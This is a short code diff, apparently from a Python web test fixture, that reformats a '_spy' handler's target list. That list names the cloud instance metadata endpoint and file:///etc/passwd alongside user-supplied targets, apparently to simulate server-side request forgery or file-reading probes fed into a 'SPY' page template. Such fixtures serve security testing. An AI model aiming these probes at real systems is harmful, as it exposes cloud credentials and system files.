@@ -74,7 +74,11 @@ async def _dishes(_: Request) -> JSONResponse:
 
 
 async def _spy(request: Request) -> Response:
-    targets = [*request.query_params.getlist("target"), "http://169.254.169.254/latest/meta-data/", "file:///etc/passwd"]
+    targets = [
+        *request.query_params.getlist("target"),
+        "http://169.254.169.254/latest/meta-data/",
+        "file:///etc/passwd",
+    ]
     here = f"ws://{request.url.hostname}:{request.url.port}/"
     return _shell(SPY.format(targets=targets, socket=here))
 
